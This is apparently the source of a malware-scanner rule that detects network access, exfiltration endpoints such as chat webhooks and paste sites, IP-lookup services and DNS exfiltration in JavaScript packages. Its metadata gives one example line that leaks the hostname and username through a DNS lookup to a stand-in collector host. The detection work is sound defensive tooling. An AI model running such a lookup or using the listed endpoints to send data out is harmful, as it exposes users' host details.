import type { Node } from '@babel/types';
import { defineRule, reportMatches, type FileContext, type BodyHints, HOLE, parentOf, destinationOf } from '../src/engine/api.js';
import { ENDPOINT_HINT, EXFIL_ENDPOINTS, RECON_ENDPOINTS, RAW_IP_URL, isPublicIPv4, matchIndicator } from '../src/engine/indicators.js';
import { hintSource } from '../src/catalog/hints.js';
import { networkPattern } from '../src/catalog/callees.js';

/** What makes a function body worth parsing for this rule (RuleVisitors.bodyHints): The endpoint words its URL check starts from (ENDPOINT_HINT) and the decoders it folds. */
const BODY_HINTS: BodyHints = { literals: new RegExp(`${hintSource([...EXFIL_ENDPOINTS, ...RECON_ENDPOINTS])}|:\\/\\/\\d`), code: /\batob\b|fromCharCode|fromCodePoint/ };

/** The network calls this rule reports with their destination (the catalog's `reports` callees). */
const HTTP_SINKS = networkPattern((c) => c.reports);
const DNS_SINKS = /^dns(?:\.promises)?\.(?:lookup|resolve\w*|reverse)$|^dns\.Resolver$/;

function sourceText(ctx: FileContext, node: Node): string {
  return node.start != null && node.end != null ? ctx.text.slice(node.start, Math.min(node.end, node.start + 2000)) : '';
}

function checkUrlText(text: string, node: Node, ctx: FileContext, decoded: boolean): void {
  if (!ENDPOINT_HINT.test(text) && !(decoded && /^(?:https?|wss?):\/\//i.test(text))) return;
  const exfil = matchIndicator(EXFIL_ENDPOINTS, text);
  if (exfil) {
    ctx.report({ node, message: `${decoded ? 'decoded string names' : 'names'} ${exfil.label} endpoint: ${text.slice(0, 120)}`, severity: 'high', signals: decoded ? ['sink:exfil-endpoint', 'obfuscation'] : ['sink:exfil-endpoint'] });
    return;
  }
  const recon = matchIndicator(RECON_ENDPOINTS, text);
  if (recon) {
    ctx.report({ node, message: `${decoded ? 'decoded string names' : 'names'} ${recon.label} service (${text.slice(0, 80)}): looks up the victim's public IP`, severity: 'medium', signals: decoded ? ['sink:recon-endpoint', 'obfuscation'] : ['sink:recon-endpoint'] });
    return;
  }
  const ip = RAW_IP_URL.exec(text);
  if (ip && isPublicIPv4(ip[1]!)) {
    ctx.report({ node, message: `URL with a raw public IP address: ${ip[0]}`, severity: 'medium', signals: ['sink:exfil-endpoint'] });
    return;
  }
  if (decoded && /^(?:https?|wss?):\/\//i.test(text)) {
    ctx.report({ node, message: `URL hidden in an encoded string: ${text.slice(0, 120)}`, severity: 'medium', signals: ['obfuscation'] });
  }
}

export default defineRule({
  meta: {
    id: 'network',
    title: 'Network access and exfiltration endpoints',
    description:
      'Reports network sinks (http/https/net/tls/dgram/dns, fetch, WebSocket, axios, got, node-fetch, undici, request) and the endpoints attackers use to receive stolen data: Discord and Slack webhooks, the Telegram bot API, pastebin, webhook.site, Pipedream, ngrok, interactsh/OAST and Burp collaborator hosts, raw public IP addresses, and public-IP lookup services. A DNS lookup of a hostname built at run time from host data is DNS exfiltration.',
    severity: 'low',
    category: 'network',
    references: ['https://attack.mitre.org/techniques/T1567/', 'https://attack.mitre.org/techniques/T1048/'],
    docs: {
      example: "dns.lookup(`${os.hostname()}.${os.userInfo().username}.collector.example`, () => {})",
      suppress: 'Turn the rule off for a run with `tollgate scan --disable-rule network`; its findings then neither show nor count toward the score.',
    },
  },
  create() {
    let reportedSink = false;
    let lastFile = '';
    return {
      bodyHints: BODY_HINTS,
      lexical(ctx) {
        // Fallback for files the AST tiers cannot read (too large, unparsable): endpoints by regex.
        if (!ctx.unreadable) return;
        reportMatches(ctx, /\brequire\s*\(\s*['"](?:node:)?(?:https?|http2|net|tls|dgram|dns)['"]\s*\)|\bfetch\s*\(\s*['"`]https?:/, 1, (m) => ({
          message: `network access (${m[0].slice(0, 40)}; found by the lexical scan, the file was not parsed)`,
          severity: 'info',
          signals: ['sink:network'],
        }));
        reportMatches(ctx, /["'`][^"'`\n]{0,300}["'`]/, 5, (m) => {
          const text = m[0].slice(1, -1);
          const exfil = ENDPOINT_HINT.test(text) ? matchIndicator(EXFIL_ENDPOINTS, text) : undefined;
          return exfil ? { message: `names ${exfil.label} endpoint: ${text.slice(0, 120)} (found by the lexical scan; the file was not parsed)`, severity: 'high', signals: ['sink:exfil-endpoint'] } : undefined;
        });
      },
      call(call, ctx) {
        if (ctx.path !== lastFile) {
          lastFile = ctx.path;
          reportedSink = false;
        }
        const callee = call.callee;
        if (!callee) return;
        const args = call.node.arguments;
        if (DNS_SINKS.test(callee)) {
          const host = args[0] && args[0].type !== 'SpreadElement' && args[0].type !== 'ArgumentPlaceholder' ? ctx.evaluator.foldLoose(args[0]) : undefined;
          const src = args[0] ? sourceText(ctx, args[0]) : '';
          const built = host === undefined || host.includes(HOLE);
          // Host data in the name: ask the flow service rather than guess from words in the source.
          const tainted = args[0] && args[0].type !== 'SpreadElement' && args[0].type !== 'ArgumentPlaceholder' ? ctx.flows.taintOf(args[0]).length > 0 : false;
          const fromHost = tainted || (/\b(?:os\.hostname|userInfo|networkInterfaces|whoami)\b/.test(src));
          if (built && fromHost) {
            ctx.report({ node: call.node, message: `DNS lookup of a hostname built from host data (${(host ?? src).slice(0, 100)}): DNS exfiltration`, severity: 'high', signals: ['sink:dns', 'source:fingerprint'] });
          } else {
            ctx.report({ node: call.node, message: `DNS query (${callee})`, severity: 'info', signals: ['sink:dns'] });
          }
          return;
        }
        if (HTTP_SINKS.test(callee) || /^(?:http|https)\.(?:request|get)$/.test(callee)) {
          const first = destinationOf(args as Node[], ctx.evaluator);
          // A destination assembled from pieces ('https://disc' + 'ord.com/…') is only visible folded.
          if (first && args[0]!.type !== 'StringLiteral' && args[0]!.type !== 'TemplateLiteral' && ENDPOINT_HINT.test(first)) checkUrlText(first, call.node, ctx, false);
          // One capability note per file is enough; endpoints and flows carry the weight.
          if (reportedSink) return;
          reportedSink = true;
          ctx.report({ node: call.node, message: `network access via ${callee}${first ? ` to ${first.slice(0, 100)}` : ''}`, severity: 'info', signals: ['sink:network'] });
        }
      },
      nodes: {
        StringLiteral(node, ctx) {
          if (node.type !== 'StringLiteral' || node.value.length > 2000 || node.value.length < 6) return;
          const parent = parentOf(node);
          // Import specifiers and object keys are names, not destinations.
          if (parent?.type === 'ImportDeclaration' || (parent?.type === 'ObjectProperty' && parent.key === node)) return;
          checkUrlText(node.value, node, ctx, false);
        },
        TemplateLiteral(node, ctx) {
          if (node.type !== 'TemplateLiteral') return;
          const text = node.quasis.map((q) => q.value.cooked ?? q.value.raw).join(HOLE);
          if (text.length >= 6 && text.length <= 2000) checkUrlText(text, node, ctx, false);
        },
        CallExpression(node, ctx) {
          // Decoded strings: Buffer.from(b64, 'base64').toString(), atob(...), String.fromCharCode(...).
          if (node.type !== 'CallExpression') return;
          const c = node.callee;
          const isDecoder =
            (c.type === 'MemberExpression' && c.property.type === 'Identifier' && c.property.name === 'toString' && c.object.type !== 'Identifier') ||
            (c.type === 'Identifier' && c.name === 'atob') ||
            (c.type === 'MemberExpression' && c.property.type === 'Identifier' && (c.property.name === 'fromCharCode' || c.property.name === 'fromCodePoint'));
          if (!isDecoder) return;
          const v = ctx.evaluator.foldString(node);
          if (v && v.length >= 6 && v.length <= 4000) checkUrlText(v, node, ctx, true);
        },
      },
    };
  },
});
